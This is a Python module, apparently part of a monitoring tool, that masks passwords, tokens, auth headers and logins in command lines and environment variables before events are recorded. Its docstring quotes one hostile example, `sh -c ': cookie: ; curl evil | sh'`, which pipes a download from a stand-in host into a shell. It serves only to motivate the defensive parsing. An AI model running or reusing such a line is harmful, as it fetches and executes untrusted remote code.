"""Credentials on command lines, taken out before an event is made of them.

A command line is kept for days, read by many and sent over the network; what stands in it as a
password must not be. Names of options stay, so rules that look for ``--password`` still match.
Known forms only, each bounded: ``--password=x``, ``--token x``, ``-px`` of the mysql programs,
``sshpass -p x``, ``curl -u user:x``, addresses with a login, ``Authorization:`` and alike headers,
``NAME_TOKEN=x``. A secret in a form of its own is not recognised.

Nobody may hide what is run behind a word that looks like a secret's name
(``sh -c ': cookie: ; curl evil | sh'``), so in the code of shells and interpreters a secret ends
where a shell would end the word, and what a shell puts in its place (``$(…)``) is none.
"""

from __future__ import annotations

import re
from collections.abc import Sequence

from haechi.engines.logins import without_logins

MASK = "***"
_LONGEST = 4096

_WORD = (
    r"(?:[a-z0-9]+[-_])*(?:password|passwd|passphrase|secret|token|api-?key|apikey|access-?key"
    r"|secret-?key|private-?key|client-?secret|credentials?)"
)
_OPTION = re.compile(rf"(?i)(--?{_WORD})(=|\Z)")
_ASSIGNED = re.compile(
    r"(?i)(?<![A-Za-z0-9_])([A-Z0-9_]{0,64}(?:PASSWORD|PASSWD|SECRET|TOKEN|API_?KEY|ACCESS_KEY|PWD)"
    r"[A-Z0-9_]{0,16}=)([^\s'\"&;]{1,512})"
)
_HEADER = re.compile(
    r"(?i)((?:proxy-)?authorization:\s{0,4}(?:(?:bearer|basic|token|digest|negotiate)\s{1,4})?"
    r"|(?:x-api-key|x-auth-token|x-vault-token|private-token|cookie|set-cookie):\s{0,4})"
    r"([^'\"]{1,2048})"
)
_INLINE = re.compile(rf"(?i)(?<!\S)(--?{_WORD}[= ])([^\s'\";&|]{{1,512}})")
_CODE_END = r"\s'\";&|<>()$`\\"
"""What ends a word in the code of a shell, or begins something that the shell puts in its place."""
_ASSIGNED_IN_CODE = re.compile(_ASSIGNED.pattern.replace(r"[^\s'\"&;]", f"[^{_CODE_END}]"))
_HEADER_IN_CODE = re.compile(_HEADER.pattern.replace(r"[^'\"]", f"[^{_CODE_END}]"))
_INLINE_IN_CODE = re.compile(_INLINE.pattern.replace(r"[^\s'\";&|]", f"[^{_CODE_END}]"))
_QUOTED_HEADER = re.compile(
    r"(?i)(?<=['\"])"
    + _HEADER.pattern.removeprefix("(?i)").replace(r"[^'\"]", r"[^'\"$`\\]")
    + r"(?=['\"])"
)
_CODE_FOLLOWS = re.compile(r"-[A-Za-z]{0,8}[ceErS]|--(?:eval|exec|execute|command|run)")
_RUNS_CODE = re.compile(
    r"(?:^|/|\A-)(?:(?:ba|da|a|z|k|mk|tc|c|fi|pwd|rba|r)?sh|busybox|toybox|python[0-9.]*|perl[0-9.]*"
    r"|ruby[0-9.]*|php[0-9.]*|node|lua[0-9.]*|g?awk|mawk|env|xargs|su|sudo|nsenter|chroot)\Z"
)
_MYSQL = re.compile(r"(?:^|/)(?:mysql|mysqldump|mysqladmin|mariadb|mariadb-dump|mysqlimport)\Z")
_CURL = re.compile(r"(?:^|/)curl\Z")
_SSHPASS = re.compile(r"(?:^|/)sshpass\Z")
_SECRET_NAME = re.compile(
    r"(?i)password|passwd|secret|token|api_?key|access_key|private_key|credential"
)
_QUICK = re.compile(
    r"(?i)passw|passphrase|secret|token|key|credential|auth|cookie|pwd|://|(?:^|/)(?:mysql|maria|curl|sshpass)"
)


def masked(argv: Sequence[str]) -> list[str]:
    """argv with ``***`` in the place of what is known to be a secret."""
    if not any(_QUICK.search(word[:_LONGEST]) for word in argv):
        return list(argv)
    program = argv[0] if argv else ""
    told: list[str] = []
    runs = bool(_RUNS_CODE.search(program))
    before = ""
    hides = code_seen = False
    """Whether the next word is a secret, and whether one of those before is code."""
    for word in argv:
        code = bool(_CODE_FOLLOWS.fullmatch(before)) or (runs and _is_code(word))
        before, code_seen = word, code_seen or code
        if hides and not code_seen and not word.startswith("-"):
            told.append(MASK if word else word)
            hides = False
            continue
        hides = _takes_next(program, word)
        told.append(_masked_code(word) if code else _masked_word(program, word[:_LONGEST]))
    return told


def _is_code(word: str) -> bool:
    """What a shell would read as more than one word."""
    return any(mark in word for mark in " \t\n;|&$`(<>")


def _masked_code(word: str) -> str:
    word = _QUOTED_HEADER.sub(_keep_first, word[:_LONGEST])
    word = _HEADER_IN_CODE.sub(_keep_first, word)
    word = _ASSIGNED_IN_CODE.sub(_keep_first, word)
    return without_logins(_INLINE_IN_CODE.sub(_keep_first, word))


def masked_environment(variables: dict[str, str]) -> dict[str, str]:
    """Values of variables whose names say so, and logins within addresses."""
    return {
        name: MASK if _SECRET_NAME.search(name) else without_logins(value)
        for name, value in variables.items()
    }


def _takes_next(program: str, word: str) -> bool:
    """An option that stands alone: its value is the next word."""
    if word in ("-u", "--user", "--proxy-user", "-U"):
        return bool(_CURL.search(program))
    if word == "-p":
        return bool(_SSHPASS.search(program))
    found = _OPTION.fullmatch(word)
    return found is not None and not found[2]


def _masked_word(program: str, word: str) -> str:
    glued = len(word) > 2
    if glued and word.startswith("-p") and (_MYSQL.search(program) or _SSHPASS.search(program)):
        return "-p" + MASK
    if glued and word.startswith("-u") and _CURL.search(program):
        return "-u" + MASK
    found = _OPTION.match(word)
    if found is not None and found[2]:
        return word[: found.end()] + (MASK if len(word) > found.end() else "")
    word = _HEADER.sub(_keep_first, word)
    word = _ASSIGNED.sub(_keep_first, word)
    if " " in word:
        word = _INLINE.sub(_keep_first, word)
    return without_logins(word)


def _keep_first(found: re.Match[str]) -> str:
    return found[1] + MASK
